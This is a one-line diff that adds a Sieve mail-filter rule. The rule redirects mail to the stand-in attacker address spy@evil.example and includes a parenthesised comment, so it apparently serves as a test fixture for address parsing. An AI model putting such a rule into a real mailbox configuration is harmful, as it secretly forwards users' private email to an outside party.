@@ -1,0 +1,1 @@
+redirect "spy@evil.example (corp.example)";
